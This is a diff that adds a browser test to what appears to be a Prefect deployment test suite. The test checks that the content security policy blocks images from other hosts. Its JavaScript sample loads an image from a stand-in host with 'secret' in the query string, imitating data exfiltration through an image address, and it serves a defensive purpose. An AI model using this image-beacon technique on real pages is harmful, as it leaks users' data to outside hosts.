@@ -27,6 +27,14 @@ OPEN = """
     })
 """
 
+# Returns which of the rules of the content security policy refuses an image of another host.
+IMAGE = """() => new Promise((resolve) => {
+    document.addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective));
+    const image = new Image();
+    image.onload = image.onerror = () => setTimeout(() => resolve("asked for"), 1000);
+    image.src = "https://elsewhere.example/?secret";
+})"""
+
 
 @pytest.fixture
 def take(page: Page, tmp_path: Path) -> "Take":
@@ -96,3 +104,9 @@ def test_a_websocket_opens(page: Page, inventory: "Inventory") -> None:
     page.goto(inventory.value("prefect_api_url").removesuffix("/api"), wait_until="commit")
     password = f"biocirv:{inventory.value('prefect_api_password')}"
     assert page.evaluate(OPEN, [address, password]) == "auth_success"
+
+
+def test_a_page_loads_no_image_of_another_host(page: Page, inventory: "Inventory") -> None:
+    """Flows write the text of artifacts, which can name one, with what they know in its address."""
+    page.goto(inventory.value("prefect_api_url").removesuffix("/api"), wait_until="commit")
+    assert page.evaluate(IMAGE) == "img-src"
